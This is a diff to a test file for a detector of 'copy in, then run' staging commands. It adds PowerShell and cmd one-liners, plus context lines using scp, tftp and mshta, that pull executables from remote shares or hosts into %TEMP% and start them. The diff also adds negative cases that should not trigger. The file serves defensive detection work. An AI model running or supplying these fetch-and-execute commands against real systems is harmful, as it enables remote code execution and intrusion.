@@ -18,6 +18,12 @@ from app.detection.staging import copies_in_then_runs
         "scp guest@203.0.113.9:/srv/a.bat %TEMP%\\a.bat\n%TEMP%\\a.bat",
         "tftp -i 192.0.2.7 GET r.exe C:\\Users\\Public\\r.exe & start C:\\Users\\Public\\r.exe",
         "msedge --headless --dump-dom https://pages.drop.test/p > %TEMP%\\p.hta && mshta %TEMP%\\p.hta",
+        # the copy's destination kept in a variable and started through it
+        '$p="$env:TEMP\\x.exe"; Copy-Item \\\\files.drop.test\\s\\x.exe $p; Start-Process $p',
+        "$t=$env:TEMP+'\\r.exe'; Copy-Item \\\\198.51.100.9\\s\\q.bin $t; saps $t",
+        "set f=%TEMP%\\u.exe& copy \\\\198.51.100.9\\s\\z.dat %f% & start %f%",
+        # .NET's copy is a copy
+        "$d=\"$env:TEMP\\a.exe\";[IO.File]::Copy('\\\\198.51.100.9\\s\\a.exe',$d,$true);& $d",
     ],
 )
 def test_a_file_brought_from_another_computer_and_started_is_read(text: str) -> None:
@@ -38,6 +44,9 @@ def test_a_file_brought_from_another_computer_and_started_is_read(text: str) -> 
         # started before it was copied: not this act
         "%TEMP%\\a.exe & copy \\\\192.0.2.15\\pub\\a.exe %TEMP%\\a.exe",
         "tftp -i 192.168.0.1 GET a.exe & a.exe",
+        # a variable that names a local copy, and one started that names another file
+        '$p="$env:TEMP\\x.exe"; Copy-Item \\\\fileserver\\s\\x.exe $p; Start-Process $p',
+        '$p="$env:TEMP\\x.exe"; $q="$env:TEMP\\y.exe"; Copy-Item \\\\198.51.100.9\\s\\x.exe $p; & $q',
     ],
 )
 def test_local_copies_documents_and_unrelated_starts_are_not(text: str) -> None:
